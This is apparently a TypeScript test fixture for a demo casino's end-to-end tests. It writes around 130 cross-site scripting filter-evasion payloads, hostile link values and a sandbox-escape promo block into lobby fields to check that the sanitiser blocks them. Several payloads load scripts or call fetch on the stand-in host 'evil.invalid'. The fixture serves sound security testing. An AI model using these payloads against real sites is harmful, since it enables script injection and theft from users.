/**
 * Hostile server data for the demo casino (`?demo_hostile=xss`): cross-site scripting payloads in the style
 * of the OWASP filter-evasion cheat sheet, written into every text, HTML and link field the lobby shows.
 *
 * Each payload, if the browser ever ran it, calls `__xss('<id>')` on its window (or on `parent`/`top`), and
 * some would load something from {@link EVIL_HOST}. An end-to-end test defines `__xss` as a sentinel, visits
 * the pages, and checks that the ids are on screen (the field was really shown) while the sentinel stays
 * silent. Every poisoned value starts with its id as plain text, so a sanitiser that removes the whole
 * payload still leaves proof that the field was displayed.
 *
 * The casino's own code stays clean: `poisonBody` rewrites a finished answer body in one place (handlers.ts).
 */
import { type CallName, callSpec } from '../src/api/calls.ts';
import { listOf } from './lists.ts';

/** The host no payload may ever reach. `.invalid` never resolves. */
export const EVIL_HOST = 'evil.invalid';

/** The name of the sentinel function a payload calls when it runs. */
export const SENTINEL = '__xss';

/** One payload and its id (`xss001`…). */
export interface HostilePayload {
  readonly id: string;
  readonly html: string;
}

const E = EVIL_HOST;

/**
 * The payloads as templates: `{run}` stands for the sentinel call (`__xss('xssNNN')`), `{id}` for the bare id.
 * Kept as data so the count and the ids are checked by a unit test.
 */
const TEMPLATES: readonly string[] = [
  // plain and broken script elements
  '<script>{run}</script>',
  '<SCRIPT>{run}</SCRIPT>',
  '<ScRiPt>{run}</sCrIpT>',
  '<script type="text/javascript">{run}</script>',
  '<script type="module">{run}</script>',
  `<script src="//${E}/{id}.js"></script>`,
  `<script src=http://${E}/{id}.js></script>`,
  '<script/xss>{run}</script>',
  '<<script>{run}//<</script>',
  '<script>{run}</script',
  '"><script>{run}</script>',
  "'><script>{run}</script>",
  '</title><script>{run}</script>',
  '</textarea><script>{run}</script>',
  '</style><script>{run}</script>',
  '<!--<script>{run}</script>-->',
  '<![CDATA[<script>{run}</script>]]>',
  '<scr<script>ipt>{run}</scr</script>ipt>',
  // event handlers on common elements
  '<img src=x onerror={run}>',
  '<img src=x onerror="{run}">',
  "<img src=x onerror='{run}'>",
  '<IMG SRC=x ONERROR={run}>',
  '<img src=x onerror={run}//',
  '<img/src=x/onerror={run}>',
  '<img src=x\tonerror={run}>',
  '<img src=x\nonerror={run}>',
  '<img src="x" onerror="&#95;&#95;xss(\'{id}\')">',
  '<img src=x onerror=eval(atob("X194c3MoJyMnKQ=="))>',
  '<img src=x onerror=window["__x"+"ss"]("{id}")>',
  '<img src="x` `<script>{run}</script>"` `>',
  '<img """><script>{run}</script>">',
  '<img src=1 onload={run} onerror={run}>',
  '<svg onload={run}>',
  '<svg/onload={run}>',
  '<svg><script>{run}</script></svg>',
  '<svg><animate onbegin={run} attributeName=x dur=1s>',
  '<svg><set onbegin={run} attributeName=x to=1>',
  '<svg><a xlink:href="javascript:{run}"><text x=20 y=20>{id}</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><image href=1 onerror={run} /></svg>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.{run}</script>"></iframe></foreignObject></svg>',
  '<body onload={run}>',
  '<body onpageshow={run}>',
  '<div onmouseover={run}>{id}</div>',
  '<div onfocus={run} tabindex=0 autofocus>{id}</div>',
  '<input autofocus onfocus={run}>',
  '<select autofocus onfocus={run}>',
  '<textarea autofocus onfocus={run}>',
  '<keygen autofocus onfocus={run}>',
  '<details open ontoggle={run}>',
  '<marquee onstart={run}>{id}</marquee>',
  '<video><source onerror={run}></video>',
  '<audio src=x onerror={run}>',
  '<video poster=javascript:{run}>',
  '<object data="javascript:{run}"></object>',
  '<embed src="javascript:{run}">',
  '<iframe onload={run}></iframe>',
  '<style onload={run}></style>',
  '<link rel=stylesheet href=x onerror={run}>',
  '<form><button formaction=javascript:{run}>{id}</button></form>',
  '<isindex type=image src=1 onerror={run}>',
  '<table background="javascript:{run}">',
  '<td background="javascript:{run}">',
  '<div style="background-image:url(javascript:{run})">{id}</div>',
  // links and URL schemes with case, whitespace and entity tricks
  '<a href="javascript:{run}">{id}</a>',
  '<a href="JaVaScRiPt:{run}">{id}</a>',
  '<a href=" javascript:{run}">{id}</a>',
  '<a href="jav\tascript:{run}">{id}</a>',
  '<a href="jav&#x09;ascript:{run}">{id}</a>',
  '<a href="jav&#x0A;ascript:{run}">{id}</a>',
  '<a href="jav&#x0D;ascript:{run}">{id}</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{run}">{id}</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{run}">{id}</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{run}">{id}</a>',
  '<a href="javascript&colon;{run}">{id}</a>',
  '<a href="\x01javascript:{run}">{id}</a>',
  '<a href="vbscript:msgbox(\'{id}\')">{id}</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoJyMnKTwvc2NyaXB0Pg==">{id}</a>',
  '<a href="data:text/html,<script>opener.{run}</script>" target=_blank>{id}</a>',
  `<a href="//${E}/{id}" target="_top">{id}</a>`,
  '<a href="{id}" onclick="{run}">{id}</a>',
  '<a href=javascript:{run} id={id}>{id}</a>',
  '<math><maction actiontype="statusline" xlink:href="javascript:{run}">{id}</maction></math>',
  '<math href="javascript:{run}">{id}</math>',
  '<iframe src="javascript:parent.{run}"></iframe>',
  '<iframe src="data:text/html,<script>parent.{run}</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.{run}&lt;/script&gt;"></iframe>',
  `<iframe src="//${E}/{id}"></iframe>`,
  '<frameset onload={run}>',
  '<meta http-equiv="refresh" content="0;url=javascript:{run}">',
  `<meta http-equiv="refresh" content="0;url=//${E}/{id}">`,
  `<base href="//${E}/">{id}`,
  `<form action="//${E}/{id}"><input name=q value={id}><button>{id}</button></form>`,
  // style and legacy script hosts
  '<div style="width:expression({run})">{id}</div>',
  '<div style="behavior:url({id}.htc)">{id}</div>',
  '<div style="-moz-binding:url({id}.xml{id}xss)">{id}</div>',
  `<style>@import "//${E}/{id}.css";</style>{id}`,
  `<link rel=stylesheet href="//${E}/{id}.css">{id}`,
  `<img src="//${E}/{id}.png" alt={id}>`,
  `<img srcset="//${E}/{id}.png 2x" alt={id}>`,
  `<input type=image src="//${E}/{id}.png" alt={id}>`,
  // mutation-XSS shapes: markup that changes meaning after a parse and serialise round trip
  '<noscript><p title="</noscript><img src=x onerror={run}>">',
  '<template><img src=x onerror={run}></template>',
  '<svg></p><style><a id="</style><img src=1 onerror={run}>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>',
  '<svg><style><img src=x onerror={run}></style></svg>',
  '<xmp><p title="</xmp><img src=x onerror={run}>">',
  '<noembed><p title="</noembed><img src=x onerror={run}>">',
  '<noframes><p title="</noframes><img src=x onerror={run}>">',
  '<listing>&lt;img src=x onerror={run}&gt;</listing>',
  '<title><img src=x onerror={run}></title>',
  '<textarea><img src=x onerror={run}></textarea>',
  '<select><option><img src=x onerror={run}></option></select>',
  // templates, prototype and framework-looking text that must stay text
  '{{constructor.constructor("{run}")()}}',
  '<p>{{7*7}} #{7*7} <%= 7*7 %> {id}</p><script>{run}</script>',
  '<div dangerouslySetInnerHTML={{__html: "<img src=x onerror={run}>"}}>{id}</div>',
  '<x-widget data-html="&lt;img src=x onerror={run}&gt;">{id}</x-widget>',
  '<img src=x:alert(1) onerror=eval(src.slice(0,0)+"{run}")>',
  '<svg><script href="data:text/javascript,{run}"></script></svg>',
  '<svg><script xlink:href="data:,{run}"></script></svg>',
  '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoJyMnKTwvc2NyaXB0Pg=="></object>',
  '<embed src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22parent.{run}%22/>">',
  '<a href="javascript:void(0)" onmouseover={run}>{id}</a>',
  '<button popovertarget=p>{id}</button><div popover id=p onbeforetoggle={run}>{id}</div>',
  '<div contenteditable onfocus={run} autofocus>{id}</div>',
];

function idOf(index: number): string {
  return `xss${String(index + 1).padStart(3, '0')}`;
}

/** The payloads, each with its id substituted into the sentinel call. */
export const HOSTILE_PAYLOADS: readonly HostilePayload[] = TEMPLATES.map((template, index) => {
  const id = idOf(index);
  const call = `${SENTINEL}('${id}')`;
  return { id, html: template.replaceAll('{run}', call).replaceAll('{id}', id) };
});

/** A hostile link for a CTA or link field: script URLs in several spellings and off-site addresses. */
const LINK_TEMPLATES: readonly string[] = [
  'javascript:{run}',
  'JAVASCRIPT:{run}',
  ' javascript:{run}',
  'java\tscript:{run}',
  'java\nscript:{run}',
  'javascript&colon;{run}',
  '&#106;avascript:{run}',
  'vbscript:msgbox("{id}")',
  'data:text/html,<script>opener.{run}</script>',
  'data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX194c3MoJyMnKTwvc2NyaXB0Pg==',
  `//${E}/{id}`,
  `https://${E}/{id}`,
  `/\\${E}/{id}`,
  `\\\\${E}/{id}`,
];

/** The value a link field gets: link `n` of the list, with payload `id` in it. */
export function hostileLink(n: number, id: string): string {
  const template = LINK_TEMPLATES[n % LINK_TEMPLATES.length] ?? 'javascript:{run}';
  return template.replaceAll('{run}', `${SENTINEL}('${id}')`).replaceAll('{id}', id);
}

/** What a field holds: text shown as text, HTML shown through the sanitiser, or a link the lobby may follow. */
type FieldKind = 'text' | 'html' | 'link';

/** The fields the lobby shows, by what each holds. */
const FIELDS_BY_KIND: Readonly<Record<FieldKind, string>> = {
  // one line each: the catalogue; config and chrome; winners; promotions and the game of the month; the
  // inbox; the cashier, coupons and daily free spins
  text: `
    display_name name game game_name
    casino_name fname lname class_display_name label
    username
    title cta_text
    subject
    method_name commonname button_text successmsg reason_not_allowed_to_redeem message msg error_message
  `,
  // promotions and the game of the month; tournaments; the inbox; widgets and the sticky banner
  html: 'text terms description left right body html',
  link: 'cta_link link',
};

/**
 * The kind of each shown field, by key. A key listed here is poisoned wherever it appears, except below the
 * parents named in SKIP_UNDER (where the same key is an identifier, e.g. `sub_groups_with_sort[].name`).
 */
const FIELDS: Readonly<Record<string, FieldKind>> = Object.fromEntries(
  Object.entries(FIELDS_BY_KIND).flatMap(([kind, text]) =>
    listOf(text).map((key) => [key, kind as FieldKind]),
  ),
);

/** Parents whose keys are identifiers, not text. */
const SKIP_UNDER = new Set(listOf('sub_groups_with_sort game_lock pages schedule_values newrulevalidation'));

/** Where poisoning starts, so the whole list shows across a few pages; each call starts at its own place. */
export interface PoisonOptions {
  readonly offset: number;
}

function callBase(call: string): number {
  let hash = 0;
  for (const char of call) hash = (hash * 31 + char.charCodeAt(0)) >>> 0;
  return hash;
}

/**
 * A custom promo block is meant to run its script, inside its sandboxed frame only. Its hostile version
 * tries everything a script could do to the lobby: call the sentinel on parent and top, read the lobby's
 * storage and page, move the lobby.
 */
function hostileCustomBlock(id: string): { html: string; css: string; js: string } {
  const call = `${SENTINEL}('${id}')`;
  const attempt = (code: string) => `try{${code}}catch(e){}`;
  return {
    html: `<section><h2>${id} sandboxed promo</h2><img src=x onerror="parent.${call}"><a href="javascript:parent.${call}" target="_top">${id}</a></section>`,
    css: 'section{padding:1rem;border:2px dashed currentColor}',
    js: [
      attempt(`parent.${call}`),
      attempt(`top.${call}`),
      attempt(`parent.document.body.innerHTML='${id}'`),
      attempt(`top.location.href='https://${EVIL_HOST}/${id}'`),
      attempt(`fetch('https://${EVIL_HOST}/${id}')`),
      attempt('document.body.setAttribute("data-ran","yes")'),
    ].join(''),
  };
}

/**
 * The answer body of one call with every shown field replaced by `<id> <payload>` (text and HTML fields)
 * or a hostile link (link fields). The walk visits fields in a fixed order, so a given offset always puts
 * the same payload in the same place. Bodies that are plain strings (widget markup) become one payload.
 *
 * @example
 * poisonBody('getmessages', { messages: [{ subject: 'Hi', body: '<p>Hi</p>' }] }, { offset: 0 });
 */
export function poisonBody(call: CallName, body: unknown, options: PoisonOptions): unknown {
  // answers of identifiers, URLs and numbers are left alone
  if (callSpec(call).showsText === false) return body;
  let n = callBase(call) + options.offset;
  const next = (): HostilePayload => {
    const payload = HOSTILE_PAYLOADS[n % HOSTILE_PAYLOADS.length] as HostilePayload;
    n += 1;
    return payload;
  };
  const value = (kind: FieldKind): string => {
    const payload = next();
    return kind === 'link' ? hostileLink(n, payload.id) : `${payload.id} ${payload.html}`;
  };

  const walk = (node: unknown, parent: string): unknown => {
    if (Array.isArray(node)) return node.map((item) => walk(item, parent));
    if (node === null || typeof node !== 'object') return node;
    const out: Record<string, unknown> = {};
    for (const [key, item] of Object.entries(node as Record<string, unknown>)) {
      const kind = SKIP_UNDER.has(parent) ? undefined : FIELDS[key];
      if (key === 'data' && parent === 'custom_promos' && Array.isArray(item)) {
        out[key] = item.map(() => hostileCustomBlock(next().id));
      } else if (kind !== undefined && typeof item === 'string' && item !== '') {
        out[key] = value(kind);
      } else {
        out[key] = walk(item, key);
      }
    }
    return out;
  };

  if (typeof body === 'string') return body === '' || body === 'OK' ? body : value('html');
  let result = walk(body, '');
  // every widget and the sticky banner are switched on, so their HTML is shown too
  if (call === 'widgets') result = { widgets: ['escapepod', 'crewpon', 'fortuneteller'] };
  if (call === 'stickybanner') result = { stickybanner: '1', html: value('html') };
  return result;
}
